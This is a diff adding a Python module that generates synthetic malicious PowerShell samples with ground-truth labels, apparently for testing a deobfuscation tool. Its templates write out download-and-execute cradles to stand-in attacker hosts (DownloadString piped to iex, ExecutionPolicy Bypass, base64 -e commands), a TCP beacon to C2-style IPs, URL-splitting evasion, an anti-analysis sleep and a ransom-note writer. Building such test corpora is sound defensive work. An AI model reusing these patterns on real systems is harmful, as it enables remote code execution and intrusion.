@@ -1,0 +1,285 @@
+"""Malicious-script skeletons: the payload families of wild corpora.
+
+Each skeleton builds a *clean* (unobfuscated) script plus its ground
+truth: the key information it contains and whether it has network
+behaviour.  Families mirror the behaviours the paper's intro motivates —
+download-and-execute, fileless loaders, beacons, recon, persistence.
+"""
+
+import random
+from dataclasses import dataclass, field
+from typing import Callable, Dict, List, Set
+
+_DOMAINS = [
+    "test.com", "evil.example", "files.badcdn.net", "update.winsvc.org",
+    "cdn.paste-mirror.io", "static.malhost.biz", "drop.zone-x.cc",
+    "img.pixeltrap.info", "api.c2relay.net", "dl.freesoft-mirror.com",
+]
+
+_PATHS = [
+    "malware.txt", "payload.ps1", "stage2.ps1", "update.ps1", "a.ps1",
+    "loader.txt", "beacon.dat", "sys.ps1", "invoice.ps1", "setup.txt",
+]
+
+_IPS = [
+    "45.77.12.9", "103.224.18.4", "185.220.101.7", "91.219.236.18",
+    "194.36.191.35", "23.94.5.133", "141.98.81.208", "89.248.165.52",
+]
+
+_LOCAL_PATHS = [
+    r"$env:TEMP\up.ps1", r"$env:APPDATA\svc.ps1", r"C:\Users\Public\run.ps1",
+    r"$env:TEMP\inv.ps1",
+]
+
+
+@dataclass
+class GroundTruth:
+    """What a skeleton's clean script contains."""
+
+    urls: Set[str] = field(default_factory=set)
+    ips: Set[str] = field(default_factory=set)
+    ps1_files: Set[str] = field(default_factory=set)
+    powershell_commands: Set[str] = field(default_factory=set)
+    has_network: bool = False
+
+
+@dataclass
+class Skeleton:
+    """A parameterized malicious-script family."""
+
+    name: str
+    build: Callable[[random.Random], tuple]
+
+
+def _pick_url(rng: random.Random) -> str:
+    return (
+        f"https://{rng.choice(_DOMAINS)}/{rng.choice(_PATHS)}"
+    )
+
+
+_URL_SPLIT_PROBABILITY = 0.75
+_URL_VAR_NAMES = ["u", "p", "frag", "seg", "part"]
+
+
+def _url_expression(url: str, rng: random.Random, tag: str):
+    """Render *url* as a script expression, often split across variables.
+
+    Wild droppers chunk their URLs into variables precisely to defeat
+    regex extraction; reassembling them requires variable tracing (the
+    paper's Section III-B3).  Returns ``(setup_lines, expression)``.
+    """
+    if rng.random() >= _URL_SPLIT_PROBABILITY or len(url) < 12:
+        return [], f"'{url}'"
+    pieces = []
+    count = rng.randint(2, 4)
+    cuts = sorted(rng.sample(range(4, len(url) - 2), count - 1))
+    previous = 0
+    for cut in cuts:
+        pieces.append(url[previous:cut])
+        previous = cut
+    pieces.append(url[previous:])
+    stem = rng.choice(_URL_VAR_NAMES) + tag
+    names = [f"${stem}{i}" for i in range(len(pieces))]
+    setup = [
+        f"{name} = '{piece}'" for name, piece in zip(names, pieces)
+    ]
+    return setup, "(" + " + ".join(names) + ")"
+
+
+def _downloader(rng: random.Random):
+    url = _pick_url(rng)
+    setup, expr = _url_expression(url, rng, "a")
+    lines = list(setup)
+    lines.append("$client = New-Object Net.WebClient")
+    lines.append(f"$payload = $client.DownloadString({expr})")
+    lines.append("Invoke-Expression $payload")
+    truth = GroundTruth(urls={url}, has_network=True)
+    if url.endswith(".ps1"):
+        truth.ps1_files.add(url)
+    return "\n".join(lines), truth
+
+
+def _dropper(rng: random.Random):
+    url = _pick_url(rng)
+    local = rng.choice(_LOCAL_PATHS)
+    setup, expr = _url_expression(url, rng, "d")
+    lines = list(setup)
+    lines.append("$w = New-Object Net.WebClient")
+    lines.append(f"$w.DownloadFile({expr}, \"{local}\")")
+    lines.append(
+        f"powershell -ExecutionPolicy Bypass -File \"{local}\""
+    )
+    truth = GroundTruth(
+        urls={url},
+        has_network=True,
+        powershell_commands={"powershell"},
+    )
+    if url.endswith(".ps1"):
+        truth.ps1_files.add(url)
+    if local.lower().endswith(".ps1"):
+        truth.ps1_files.add(local)
+    return "\n".join(lines), truth
+
+
+def _ip_beacon(rng: random.Random):
+    ip = rng.choice(_IPS)
+    port = rng.choice([443, 8080, 4444, 8443])
+    lines = []
+    if rng.random() < _URL_SPLIT_PROBABILITY:
+        # C2 IPs get the same variable-split treatment as URLs.
+        octets = ip.split(".")
+        cut = rng.randint(1, 3)
+        lines.append(f"$h0 = '{'.'.join(octets[:cut])}'")
+        lines.append(f"$h1 = '.{'.'.join(octets[cut:])}'")
+        expr = "($h0 + $h1)"
+    else:
+        expr = f"'{ip}'"
+    lines.append(
+        f"$sock = New-Object Net.Sockets.TcpClient({expr}, {port})"
+    )
+    lines.append("$stream = $sock.GetStream()")
+    lines.append("$sock.Close()")
+    return "\n".join(lines), GroundTruth(ips={ip}, has_network=True)
+
+
+def _two_stage(rng: random.Random):
+    first = _pick_url(rng)
+    second = _pick_url(rng)
+    setup1, expr1 = _url_expression(first, rng, "x")
+    setup2, expr2 = _url_expression(second, rng, "y")
+    lines = list(setup1) + list(setup2)
+    lines.append(
+        f"$stage1 = (New-Object Net.WebClient).DownloadString({expr1})"
+    )
+    lines.append(
+        f"$stage2 = (New-Object Net.WebClient).DownloadString({expr2})"
+    )
+    lines.append("iex $stage1")
+    lines.append("iex $stage2")
+    truth = GroundTruth(urls={first, second}, has_network=True)
+    for url in (first, second):
+        if url.endswith(".ps1"):
+            truth.ps1_files.add(url)
+    return "\n".join(lines), truth
+
+
+def _encoded_child(rng: random.Random):
+    import base64
+
+    url = _pick_url(rng)
+    inner = f"(New-Object Net.WebClient).DownloadString('{url}')|iex"
+    blob = base64.b64encode(inner.encode("utf-16-le")).decode()
+    script = f"powershell -NoP -NonI -e {blob}"
+    truth = GroundTruth(
+        urls={url},
+        has_network=True,
+        powershell_commands={"powershell"},
+    )
+    if url.endswith(".ps1"):
+        truth.ps1_files.add(url)
+    return script, truth
+
+
+def _blob_dropper(rng: random.Random):
+    """A base64 *binary* payload (PE stub) written to disk.
+
+    The paper's Table V discussion: 65% of residual L3 markers are
+    Base64 strings that "often represent binary files, which are decoded
+    into bytes during execution.  They cannot be recovered to strings" —
+    so every tool, including Invoke-Deobfuscation, must leave them.
+    """
+    import base64
+
+    blob = bytes(rng.randrange(256) for _ in range(rng.randint(600, 1400)))
+    payload = base64.b64encode(b"MZ\x90\x00" + blob).decode()
+    local = rng.choice(_LOCAL_PATHS).replace(".ps1", ".dat")
+    script = (
+        f"$bytes = [Convert]::FromBase64String('{payload}')\n"
+        f"[IO.File]::WriteAllBytes(\"{local}\", $bytes)\n"
+        f"Start-Process \"{local}\""
+    )
+    return script, GroundTruth()
+
+
+def _recon(rng: random.Random):
+    # No network behaviour: environment probing only.
+    script = (
+        "$info = @{}\n"
+        "$info['user'] = $env:USERNAME\n"
+        "$info['os'] = $env:OS\n"
+        "$info['dir'] = $env:SystemRoot\n"
+        "Write-Output $info"
+    )
+    return script, GroundTruth()
+
+
+def _note_writer(rng: random.Random):
+    local = rng.choice(_LOCAL_PATHS)
+    script = (
+        "$note = 'All your files are encrypted. Pay to recover.'\n"
+        f"$note | Out-File \"{local}\""
+    )
+    truth = GroundTruth()
+    if local.lower().endswith(".ps1"):
+        truth.ps1_files.add(local)
+    return script, truth
+
+
+def _string_builder(rng: random.Random):
+    # Assembles a URL across variables — exercises variable tracing.
+    url = _pick_url(rng)
+    scheme, rest = url.split("://", 1)
+    host, path = rest.split("/", 1)
+    script = (
+        f"$p1 = '{scheme}://'\n"
+        f"$p2 = '{host}/'\n"
+        f"$p3 = '{path}'\n"
+        f"$target = $p1 + $p2 + $p3\n"
+        f"(New-Object Net.WebClient).DownloadString($target) | iex"
+    )
+    truth = GroundTruth(urls={url}, has_network=True)
+    if url.endswith(".ps1"):
+        truth.ps1_files.add(url)
+    return script, truth
+
+
+def _sleeper(rng: random.Random):
+    # Anti-analysis delay before the payload: slows execution-based tools.
+    url = _pick_url(rng)
+    setup, expr = _url_expression(url, rng, "s")
+    lines = [f"Start-Sleep -Seconds {rng.randint(5, 30)}"]
+    lines.extend(setup)
+    lines.append(
+        f"(New-Object Net.WebClient).DownloadString({expr}) | iex"
+    )
+    truth = GroundTruth(urls={url}, has_network=True)
+    if url.endswith(".ps1"):
+        truth.ps1_files.add(url)
+    return "\n".join(lines), truth
+
+
+SKELETONS: Dict[str, Skeleton] = {
+    skeleton.name: skeleton
+    for skeleton in [
+        Skeleton("downloader", _downloader),
+        Skeleton("dropper", _dropper),
+        Skeleton("ip_beacon", _ip_beacon),
+        Skeleton("two_stage", _two_stage),
+        Skeleton("encoded_child", _encoded_child),
+        Skeleton("blob_dropper", _blob_dropper),
+        Skeleton("recon", _recon),
+        Skeleton("note_writer", _note_writer),
+        Skeleton("string_builder", _string_builder),
+        Skeleton("sleeper", _sleeper),
+    ]
+}
+
+NETWORK_SKELETONS = [
+    "downloader", "dropper", "ip_beacon", "two_stage", "encoded_child",
+    "string_builder", "sleeper",
+]
+
+
+def build_skeleton(name: str, rng: random.Random):
+    """Instantiate a skeleton; returns ``(script, ground_truth)``."""
+    return SKELETONS[name].build(rng)
